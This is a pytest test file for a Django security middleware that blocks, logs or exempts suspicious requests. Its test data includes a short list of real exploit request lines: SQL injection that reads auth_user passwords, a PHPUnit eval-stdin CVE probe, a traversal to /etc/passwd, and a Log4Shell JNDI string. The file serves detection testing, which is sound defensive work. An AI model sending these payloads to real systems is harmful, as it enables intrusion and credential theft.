"""SECURITY_DETECT_INLINE: exploits answered 403 before the view runs (or, observing, only
logged), still flagged by the drain for their rule; everything else served as before."""

import logging

import pytest
from django.core.management import call_command
from django.test import Client

from security.models import RequestLog, SuspiciousIP

from .test_detection import store

pytestmark = pytest.mark.django_db(transaction=True)

ATTACKER = "198.51.100.150"
SQLI = "/?q=1%27%20union%20select%20password%20from%20auth_user--"
EXPLOITS = [
    SQLI,
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",  # a CVE's request line
    "/static/..%2f..%2f..%2fetc/passwd",  # traversal
    "/?next=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D",  # Log4Shell
]
# What developers type into a search box: text, not the syntax of an attack.
SEARCHES = [
    "/?q=%3Cscript%20type%3D%22module%22%3E",
    "/?q=eval()%20vs%20ast.literal_eval()",
    "/?q=SELECT%20*%20FROM%20t%20WHERE%20id%20%3D%201",
]


def test_off_by_default_the_view_answers_and_the_drain_flags(client: Client):
    assert client.get(SQLI, REMOTE_ADDR=ATTACKER).status_code == 200
    store()
    assert SuspiciousIP.objects.get(ip_address=ATTACKER).reason == "injection"


@pytest.mark.parametrize("path", EXPLOITS)
def test_on_an_exploit_is_refused_before_the_view_and_flagged(client: Client, settings, path):
    settings.SECURITY_DETECT_INLINE = True
    response = client.get(path, REMOTE_ADDR=ATTACKER)
    assert response.status_code == 403 and response.content == b"Forbidden\n"
    store()
    logged = RequestLog.objects.get(ip_address=ATTACKER)
    assert (logged.status_code, logged.blocked) == (403, False)
    flagged = SuspiciousIP.objects.filter(ip_address=ATTACKER, detected_by="stream")
    assert {"injection", "exploit", "traversal"} & {row.reason for row in flagged}


def test_on_searches_and_ordinary_pages_are_served(client: Client, settings):
    settings.SECURITY_DETECT_INLINE = True
    for path in ["/", "/login/", *SEARCHES, "/.env"]:
        assert client.get(path, REMOTE_ADDR="192.0.2.150").status_code in (200, 404), path


def test_observe_serves_and_logs_what_it_would_refuse(client: Client, settings, caplog):
    settings.SECURITY_DETECT_INLINE = "observe"
    with caplog.at_level(logging.WARNING, logger="security.detection.inline"):
        response = client.get(SQLI + "&token=s3cr3t-reset-token", REMOTE_ADDR=ATTACKER)
    assert response.status_code == 200
    [line] = [r.getMessage() for r in caplog.records if r.name == "security.detection.inline"]
    assert line.startswith(f"would refuse (SECURITY_DETECT_INLINE = 'observe') {ATTACKER} GET /")
    assert "injection" in line and "s3cr3t" not in line


def test_exempt_allowlisted_clients_and_switched_off_rules_are_never_refused(
    client: Client, settings
):
    settings.SECURITY_DETECT_INLINE = True
    settings.SECURITY_DETECT_EXEMPT = ["192.0.2.160"]
    settings.SECURITY_DETECT_EXEMPT_USER_AGENTS = [r"^PartnerAudit/"]
    call_command("allow_ip", "192.0.2.161")
    assert client.get(SQLI, REMOTE_ADDR="192.0.2.160").status_code == 200
    assert client.get(SQLI, REMOTE_ADDR="192.0.2.161").status_code == 200
    agent = {"HTTP_USER_AGENT": "PartnerAudit/2"}
    assert client.get(SQLI, REMOTE_ADDR="192.0.2.162", **agent).status_code == 200
    settings.SECURITY_DETECT_RULES = {"injection": {"enabled": False}}
    assert client.get(SQLI, REMOTE_ADDR=ATTACKER).status_code == 200
